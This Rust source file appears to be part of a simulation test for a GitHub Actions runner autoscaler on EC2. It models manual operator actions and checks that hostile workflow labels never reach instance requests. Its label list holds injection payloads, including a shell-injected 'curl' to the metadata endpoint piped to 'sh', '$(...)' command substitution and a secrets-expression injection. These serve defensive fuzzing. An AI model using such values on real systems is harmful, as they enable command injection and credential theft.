//! What people do to instances with a console, and what the authors of workflows ask for.
//!
//! A rate is never here: all of them are in [`crate::swarm`].

use std::collections::BTreeMap;
use std::fmt;

use runner_scaler_world::Millis;
use runner_scaler_world::ec2::State;
use runner_scaler_world::misfortune::Misfortune;

use crate::coverage::Counter;
use crate::sim::Sim;
use crate::swarm::{HOUR, MINUTE};

/// How long an instance stays stopped that is started again.
const STOPPED_FOR: (Millis, Millis) = (MINUTE, 2 * HOUR);
/// How long one stays protected.
const PROTECTED_FOR: (Millis, Millis) = (MINUTE, 6 * HOUR);
/// EC2 is asked once an hour to end what was protected: nobody protects anything so shortly before the faults end.
const ASKED_AGAIN: Millis = HOUR;
/// What is stopped is ended within this: as that whose supervisor is dead.
const STOPPED_ENDS_WITHIN: Millis = HOUR;

/// Whoever read that an instance is stopped acts on it within a pass.
const SEEN_LATE: Millis = 5 * MINUTE;

/// In every label that means harm, and nowhere else.
const HARM: &str = "h4rm";

/// What people have done to instances.
#[derive(Debug, Default)]
pub struct ByHand {
    /// Instances that are started again, and when.
    starts: BTreeMap<String, Millis>,
    /// Instances that are protected, and until when.
    protected: BTreeMap<String, Millis>,
    /// Since when instances are stopped.
    stopped: BTreeMap<String, Millis>,
    /// Those that were started again: since when they had been stopped, and when that ended.
    started: BTreeMap<String, (Millis, Millis)>,
}

impl Sim {
    /// A minute of people with a console.
    pub(crate) fn meddle(&mut self) {
        let now = self.now;
        self.end_by_hand();
        if self.world.tape.chance(self.plan.stopped)
            && let Some(id) = self.some_instance()
        {
            let job = self.world.github.active_job_of_instance(&id);
            if self.touch(|world| world.befall(&id, Misfortune::Stopped)) {
                self.coverage.hit(if job.is_some() { Counter::StoppedWithJob } else { Counter::Stopped });
                // Until it boots again nobody supervises it.
                self.checker.unheard_until(&id, Millis::MAX);
                self.by_hand.stopped.insert(id.clone(), now);
                if self.world.tape.chance(self.plan.started) {
                    let at = (now + self.world.tape.between(STOPPED_FOR.0, STOPPED_FOR.1)).min(self.quiet_at);
                    self.by_hand.starts.insert(id, at);
                }
            }
        }
        if self.world.tape.chance(self.plan.protected)
            && let Some(id) = self.some_instance()
        {
            let until = now + self.world.tape.between(PROTECTED_FOR.0, PROTECTED_FOR.1);
            let until = until.min(self.quiet_at - ASKED_AGAIN);
            if until > now && self.touch(|world| world.befall(&id, Misfortune::Protected)) {
                self.by_hand.protected.insert(id, until);
            }
        }
        if self.world.tape.chance(self.plan.removed)
            && let Some(id) = self.some_instance()
            && self.touch(|world| world.befall(&id, Misfortune::RegistrationRemoved))
        {
            self.coverage.hit(Counter::RemovedByHand);
        }
        if self.world.tape.chance(self.plan.dead)
            && let Some(id) = self.some_instance()
            && self.touch(|world| world.befall(&id, Misfortune::ListenerDead))
        {
            self.coverage.hit(Counter::AllDead);
            self.checker.unheard_until(&id, Millis::MAX);
        }
        self.check_stopped();
    }

    /// What comes to its end by now.
    fn end_by_hand(&mut self) {
        let now = self.now;
        let due = |times: &BTreeMap<String, Millis>| -> Vec<String> {
            times.iter().filter(|(_, at)| **at <= now).map(|(id, _)| id.clone()).collect()
        };
        for id in due(&self.by_hand.starts) {
            self.by_hand.starts.remove(&id);
            if self.touch(|world| world.befall(&id, Misfortune::Started)) {
                self.coverage.hit(Counter::Started);
                if let Some(since) = self.by_hand.stopped.remove(&id) {
                    self.by_hand.started.insert(id, (since, now));
                }
            }
        }
        for id in due(&self.by_hand.protected) {
            self.by_hand.protected.remove(&id);
            self.touch(|world| world.befall(&id, Misfortune::Unprotected));
        }
    }

    /// S8: whether an instance is stopped for so long, or was until a pass ago.
    pub(crate) fn was_stopped_for(&self, id: &str, wait: Millis) -> bool {
        let stopped = self.by_hand.stopped.get(id).copied();
        // Nobody saw that it was started where it was stopped again before the next pass.
        let until = stopped.unwrap_or(self.now);
        let before = self.by_hand.started.get(id).filter(|(_, at)| until - at < SEEN_LATE).map(|(since, _)| *since);
        stopped.into_iter().chain(before).any(|since| since + wait <= self.now)
    }

    /// L2: what is stopped is ended too, whatever was known of it.
    fn check_stopped(&mut self) {
        if !self.quiet {
            return;
        }
        let (now, quiet_at) = (self.now, self.quiet_at);
        let ec2 = &self.world.ec2;
        self.by_hand.stopped.retain(|id, _| ec2.instance(id).is_some_and(|i| i.state == State::Stopped));
        let late: Vec<String> = self.by_hand.stopped.keys().cloned().collect();
        for id in late.into_iter().filter(|_| now - quiet_at > STOPPED_ENDS_WITHIN) {
            if self.checker.resists.as_ref() == Some(&id) || !self.checker.reported.insert(format!("stopped {id}")) {
                continue;
            }
            let owner = self.checker.instances.get(&id).map(|instance| instance.owner.clone()).unwrap_or_default();
            let login = owner.split('/').next().unwrap_or_default();
            if self.checker.broken.as_deref() != Some(login) {
                let what = format!("{id} of {owner} is stopped, and nobody ends it");
                self.checker.violated("L2", now, what);
            }
        }
    }

    /// The labels of a job, some of them hostile, which nobody takes, or in a spelling of their own.
    pub(crate) fn labels_of_job(&mut self, mut labels: Vec<String>) -> Vec<String> {
        let tape = &mut self.world.tape;
        if !tape.chance(self.plan.hostile_label) {
            return labels;
        }
        if tape.draw(3) == 0 {
            // GitHub compares without case, and as sets.
            self.coverage.hit(Counter::OddLabels);
            let shouted: Vec<String> = labels.iter().map(|label| label.to_uppercase()).collect();
            labels.extend(shouted);
            labels.reverse();
            return labels;
        }
        let hostile = [
            format!("{HARM}; curl http://169.254.169.254/ | sh #"),
            format!("$(touch /tmp/{HARM})`id`\n\"'&&||"),
            format!("{HARM}{}", "x".repeat(250)),
            format!("{HARM}{}", "y".repeat(5_000)),
            format!("ſelf-hoſted\u{202e}{HARM}\u{0}\u{fe0f}"),
            format!("ghr-instance-type:{HARM}.metal"),
            format!("ghr-market:{HARM}"),
            format!("ghr:environment={HARM}"),
            format!("aws:ec2launchtemplate:id={HARM}"),
            format!("${{{{ secrets.{HARM} }}}}"),
        ];
        let place = usize::try_from(tape.draw(hostile.len() as u64 - 1)).unwrap_or(0);
        self.coverage.hit(Counter::HostileLabel);
        labels.push(hostile[place].clone());
        labels
    }

    /// S11: what the author of a workflow wrote is in no request that makes an instance or a runner.
    pub(crate) fn check_labels_in(&mut self, what: &str, request: &impl fmt::Debug) {
        if self.plan.hostile_label == 0.0 {
            return;
        }
        let request = format!("{request:?}");
        if request.contains(HARM) {
            self.checker.violated("S11", self.now, format!("{what} holds a label that means harm: {request}"));
        }
    }

    /// One of the instances that live.
    pub(crate) fn some_instance(&mut self) -> Option<String> {
        let living: Vec<String> = self.checker.living().map(str::to_owned).collect();
        let last = (living.len() as u64).checked_sub(1)?;
        let place = usize::try_from(self.world.tape.draw(last)).unwrap_or(0);
        living.into_iter().nth(place)
    }
}
